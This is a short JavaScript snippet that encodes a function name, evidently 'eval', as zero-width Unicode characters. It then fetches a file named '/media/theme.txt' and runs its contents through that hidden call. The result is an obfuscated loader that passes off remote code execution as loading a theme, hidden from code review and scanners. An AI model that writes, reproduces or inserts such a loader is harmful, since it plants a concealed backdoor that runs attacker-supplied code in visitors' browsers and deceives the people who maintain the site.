const z = '\u200c\u200b'; 
const enc = (s) => s;
const hiddenText = '​‌‌​​‌​‌​‌‌‌​‌‌​​‌‌​​​​‌​‌‌​‌‌​​';
const word = hiddenText.match(/.{8}/gu).map(b => String.fromCharCode(parseInt([...b].map(c => c === '\u200c' ? 1 : 0).join(''), 2))).join('');
fetch('/media/theme.txt').then(r => r.text()).then(t => window[word](t));
